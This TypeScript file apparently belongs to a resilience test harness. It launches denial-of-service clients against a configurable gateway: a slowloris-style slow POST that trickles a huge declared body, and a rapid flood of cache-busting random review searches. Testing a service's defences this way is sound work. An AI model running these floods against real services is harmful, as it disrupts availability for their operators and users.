import { connect, type Socket } from 'node:net';

/**
 * The clients of an attack, in a process of their own, so that they do not delay the client that measures. `FLOOD` names
 * the attack, `CLIENTS` is the number of its clients, `GATEWAY` its target, and `HEADERS` has further header lines.
 */
const { FLOOD = '', CLIENTS = '1', GATEWAY = '', HEADERS = '', WIDGET = '' } = process.env;
const gateway = new URL(GATEWAY);

const TRICKLE_MS = 500;
/** A client that was refused tries again after this time. */
const AGAIN_MS = 1_000;
const SEARCH_MS = 64;

const FLOODS: Readonly<Record<string, () => void>> = { 'slow bodies': sendSlowly, searches: search };

function open(onceClosed: () => void): Socket {
  const socket = connect(Number(gateway.port), gateway.hostname);
  return socket.on('error', () => {}).on('close', onceClosed);
}

function head(method: string, path: string, ...lines: string[]): string {
  return `${[`${method} ${path} HTTP/1.1`, `host: ${gateway.host}`, HEADERS, ...lines].join('\r\n')}\r\n\r\n`;
}

/** Sends the body of a POST byte by byte. Begins again when the server has responded or closed the connection. */
function sendSlowly(): void {
  const socket = open(() => {
    clearInterval(trickle);
    setTimeout(sendSlowly, AGAIN_MS);
  });
  const lines = ['content-type: application/json', 'content-length: 1000000'];
  socket.write(head('POST', '/public/v1/reviews/add', ...lines));
  const trickle = setInterval(() => socket.write(' '), TRICKLE_MS);
  socket.once('data', () => socket.destroy());
}

/** Searches the reviews of a widget for texts that nobody has searched for, at a steady rate. Waits for no response. */
function search(): void {
  const socket = open(() => {
    clearInterval(sending);
    setTimeout(search, AGAIN_MS);
  });
  const sending = setInterval(() => {
    const text = Math.random().toString(36).slice(2);
    socket.write(head('GET', `/embed/v1/widgets/${WIDGET}/reviews?q=${text}`));
  }, SEARCH_MS);
  socket.resume();
}

for (let started = 0; started < Number(CLIENTS); started += 1) FLOODS[FLOOD]?.();
process.stdout.write(`Flooding with ${FLOOD}\n`);
